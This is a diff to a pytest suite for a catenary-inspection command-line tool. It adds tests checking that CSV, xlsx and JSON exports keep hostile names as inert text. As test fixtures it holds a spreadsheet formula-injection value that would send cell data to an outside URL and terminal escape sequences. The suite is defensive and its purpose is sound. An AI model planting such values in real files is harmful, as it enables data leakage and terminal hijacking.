@@ -5,8 +5,11 @@ characters, HTML escaped, the terminal without raw escape sequences."""
 from __future__ import annotations
 
 import csv
+import json
 import re
 import shutil
+import subprocess
+import sys
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -18,7 +21,7 @@ from sqlalchemy.orm import Session
 from catenary.storage.database import make_engine
 from catenary.storage.models import Alert, Line, Mast, SpanMeasurement, Track, Vehicle
 
-from ..conftest import Build, SmallRun
+from ..conftest import Build, SmallRun, read_sheet
 from .conftest import assert_succeeded, catenary
 
 HOSTILE_MASTS = (
@@ -132,6 +135,48 @@ def test_csv_outputs_are_safe(name: str, database: str, tmp_path: Path) -> None:
     assert "'=HYPERLINK" in text and "\\x1b" in text  # the names are there, made safe
 
 
+@pytest.mark.parametrize("name", sorted(CSV_OUTPUTS))
+def test_xlsx_outputs_keep_hostile_names_as_text(name: str, database: str, tmp_path: Path) -> None:
+    out = tmp_path / "out.xlsx"
+    assert_succeeded(catenary("--db", database, *CSV_OUTPUTS[name], "-o", out))
+    header, *rows = read_sheet(out)  # no formula cell anywhere
+    assert rows, name
+    cells = [cell for row in rows for cell in row]
+    assert '=HYPERLINK("http://x/?"&A1)' in cells  # as typed text, never evaluated
+    assert not any(isinstance(c, str) and CONTROL.search(c) for c in cells)
+    for row in rows:
+        for column, cell in zip(header, row, strict=False):
+            if column.endswith(("_mm", "_m")) and isinstance(cell, float):
+                assert cell == round(cell, 3), (name, column, cell)
+
+
+@pytest.mark.parametrize("name", sorted(CSV_OUTPUTS))
+def test_csv_to_standard_output_is_the_csv_file(name: str, database: str, tmp_path: Path) -> None:
+    out = tmp_path / "out.csv"
+    assert_succeeded(catenary("--db", database, *CSV_OUTPUTS[name], "-o", out))
+    printed = catenary("--db", database, *CSV_OUTPUTS[name], "-o", "-")
+    assert_succeeded(printed)
+    assert printed.stdout == out.read_text(encoding="utf-8")
+    assert "written to standard output" in printed.stderr
+
+
+def test_csv_to_a_reader_that_stops_early_ends_in_one_line(database: str) -> None:
+    command = [sys.executable, "-m", "catenary.cli", "--db", database, "export", "1"]
+    with subprocess.Popen(
+        [*command, "--what", "samples", "-o", "-"],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+    ) as reader:
+        assert reader.stdout is not None and reader.stderr is not None
+        assert reader.stdout.readline().startswith('"scan","position_m","chainage_m",')
+        reader.stdout.close()  # as `| head -1` does
+        error = reader.stderr.read()
+        assert reader.wait(timeout=120) == 1
+    assert error.startswith("Error: standard output closed by its reader: "), error
+    assert len(error.strip().splitlines()) == 1 and "Traceback" not in error
+
+
 @pytest.mark.parametrize("report", ["run", "maintenance"])
 def test_html_reports_escape_every_name(report: str, database: str, tmp_path: Path) -> None:
     out = tmp_path / "out.html"
@@ -149,6 +194,19 @@ def test_alerts_list_carries_no_control_character(database: str) -> None:
     assert_succeeded(result)
     assert not CONTROL.search(result.stdout + result.stderr), repr(result.stdout[:400])
     assert "\\x1b]0;owned\\x07" in result.stdout and "<b>L</b>\\x1b[5m" in result.stdout
+
+
+@pytest.mark.parametrize(
+    "command", [("alerts", "list", "--status", "all"), ("runs", "list")], ids=" ".join
+)
+def test_json_listings_carry_the_names_escaped(database: str, command: tuple[str, ...]) -> None:
+    result = catenary("--db", database, *command, "--format", "json")
+    assert_succeeded(result)
+    assert not CONTROL.search(result.stdout), repr(result.stdout[:400])
+    records = json.loads(result.stdout)
+    assert records and all(r["line"] == HOSTILE_LINE for r in records)  # as stored
+    if command[0] == "alerts":
+        assert {r["mast_from"] for r in records} & set(HOSTILE_MASTS)
 
 
 def test_the_database_engine_sees_the_hostile_names(database: str) -> None:
